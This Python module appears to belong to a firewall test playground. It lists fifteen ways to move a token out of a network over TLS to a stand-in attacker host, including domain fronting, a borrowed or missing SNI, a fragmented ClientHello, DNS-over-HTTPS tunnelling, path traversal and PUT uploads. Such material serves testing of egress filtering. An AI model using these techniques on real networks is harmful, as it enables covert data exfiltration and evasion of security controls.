"""Ways out through TLS.

Law: one function a way. Each is an ordinary HTTPS request whose path is the message; only the address, the SNI and
the Host header differ.
"""

from __future__ import annotations

import base64
import socket
import ssl
import time
from dataclasses import dataclass

from dnsfw.playground import atlas
from dnsfw.playground.package.names import question
from dnsfw.playground.package.way import Answered, Loot, Way


@dataclass(frozen=True)
class Get:
    """`GET path` with this Host, in a TLS connection to `address` that names `sni`, or nothing where that is None.
    Sites are verified against the playground's authority and those that the machine trusts."""

    address: str
    sni: str | None
    host: str
    path: str
    method: str = "GET"


def fetch(loot: Loot, get: Get) -> None:
    context = ssl.create_default_context(cafile=loot.authority)
    context.load_default_certs()
    context.check_hostname = get.sni is not None
    request = f"{get.method} {get.path} HTTP/1.1\r\nHost: {get.host}\r\nConnection: close\r\n\r\n"
    with (
        socket.create_connection((get.address, 443)) as plain,
        context.wrap_socket(plain, server_hostname=get.sni) as tls,
    ):
        tls.sendall(request.encode())
        status = tls.recv(4096).decode("latin-1").split(" ", 2)[1:2]
        if status == ["403"]:
            raise Answered("HTTP 403")


def _path(loot: Loot) -> str:
    return f"/{loot.token}"


def _doh_path(loot: Loot) -> str:
    message = question(f"{loot.token}.{atlas.EVIL_ZONE}")
    return "/dns-query?dns=" + base64.urlsafe_b64encode(message).rstrip(b"=").decode()


def evil_name(loot: Loot) -> None:
    fetch(loot, Get(atlas.EVIL_ZONE, atlas.EVIL_ZONE, atlas.EVIL_ZONE, _path(loot)))


def evil_address(loot: Loot) -> None:
    fetch(loot, Get(atlas.EVIL.v4, atlas.EVIL_ZONE, atlas.EVIL_ZONE, _path(loot)))


def evil_address_v6(loot: Loot) -> None:
    fetch(loot, Get(atlas.EVIL.v6, atlas.EVIL_ZONE, atlas.EVIL_ZONE, _path(loot)))


def allowed_sni_at_evil_address(loot: Loot) -> None:
    fetch(loot, Get(atlas.EVIL.v4, atlas.ALLOWED_NAME, atlas.ALLOWED_NAME, _path(loot)))


def doh_address(loot: Loot) -> None:
    fetch(loot, Get(atlas.DOH.v4, atlas.DOH.v4, atlas.DOH.v4, _doh_path(loot)))


def doh_name(loot: Loot) -> None:
    fetch(loot, Get(atlas.DOH_NAME, atlas.DOH_NAME, atlas.DOH_NAME, _doh_path(loot)))


def shared_address(loot: Loot) -> None:
    fetch(loot, Get(atlas.SHARED.v4, atlas.EVIL_SHARED_NAME, atlas.EVIL_SHARED_NAME, _path(loot)))


def shared_address_v6(loot: Loot) -> None:
    fetch(loot, Get(atlas.SHARED.v6, atlas.EVIL_SHARED_NAME, atlas.EVIL_SHARED_NAME, _path(loot)))


def shared_address_without_sni(loot: Loot) -> None:
    fetch(loot, Get(atlas.SHARED.v4, None, atlas.EVIL_SHARED_NAME, _path(loot)))


def _asset(loot: Loot) -> str:
    return f"{atlas.ASSETS}{_path(loot)}"


def fronted(loot: Loot) -> None:
    fetch(loot, Get(atlas.SHARED.v4, atlas.SHARED_NAME, atlas.EVIL_SHARED_NAME, _asset(loot)))


def other_path(loot: Loot) -> None:
    fetch(loot, Get(atlas.SHARED_NAME, atlas.SHARED_NAME, atlas.SHARED_NAME, _path(loot)))


def roundabout_path(loot: Loot) -> None:
    fetch(loot, Get(atlas.SHARED_NAME, atlas.SHARED_NAME, atlas.SHARED_NAME, f"{atlas.ASSETS}/%2e%2e{_path(loot)}"))


def other_method(loot: Loot) -> None:
    fetch(loot, Get(atlas.SHARED_NAME, atlas.SHARED_NAME, atlas.SHARED_NAME, _asset(loot), "PUT"))


def in_pieces(loot: Loot) -> None:
    """A ClientHello whose parts come one by one."""
    come, gone = ssl.MemoryBIO(), ssl.MemoryBIO()
    tls = ssl.create_default_context(cafile=loot.authority).wrap_bio(come, gone, server_hostname=atlas.EVIL_SHARED_NAME)
    with socket.create_connection((atlas.SHARED.v4, 443)) as plain:
        plain.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        while not _shaken(tls):
            hello = gone.read()
            for start in range(0, len(hello), 100):
                plain.sendall(hello[start : start + 100])
                time.sleep(0.02)
            come.write(plain.recv(1 << 16))
        tls.write(f"GET {_path(loot)} HTTP/1.1\r\nHost: {atlas.EVIL_SHARED_NAME}\r\n\r\n".encode())
        plain.sendall(gone.read())
        plain.recv(1)


def _shaken(tls: ssl.SSLObject) -> bool:
    try:
        tls.do_handshake()
    except ssl.SSLWantReadError:
        return False
    return True


def not_tls(loot: Loot) -> None:
    with socket.create_connection((atlas.SHARED.v4, 443)) as telling:
        telling.sendall(loot.token.encode())
        telling.recv(2)


WAYS = (
    Way("https-name", "HTTPS to the attacker's name", (16, 22), evil_name),
    Way("https-address4", "HTTPS to the attacker's address, IPv4", (22,), evil_address),
    Way("https-address6", "HTTPS to the attacker's address, IPv6", (22,), evil_address_v6),
    Way("https-borrowed-sni", "allowed SNI, attacker's address", (22, 26), allowed_sni_at_evil_address),
    Way("doh-address", "DNS over HTTPS, by address", (20,), doh_address),
    Way("doh-name", "DNS over HTTPS, by name", (20,), doh_name),
    Way("shared-sni4", "attacker's SNI, allowed address, IPv4", (11, 26), shared_address),
    Way("shared-sni6", "attacker's SNI, allowed address, IPv6", (11, 26), shared_address_v6),
    Way("shared-no-sni", "no SNI, allowed address", (26,), shared_address_without_sni),
    Way("shared-pieces", "attacker's SNI in pieces", (26,), in_pieces),
    Way("shared-not-tls", "no TLS at all, allowed address", (26,), not_tls),
    Way("fronting", "allowed SNI, attacker's Host header", (26,), fronted),
    Way("url-path", "another path of an allowed host", (27,), other_path),
    Way("url-dots", "the same, by way of an allowed path", (27,), roundabout_path),
    Way("url-method", "an upload to an allowed path", (27,), other_method),
)
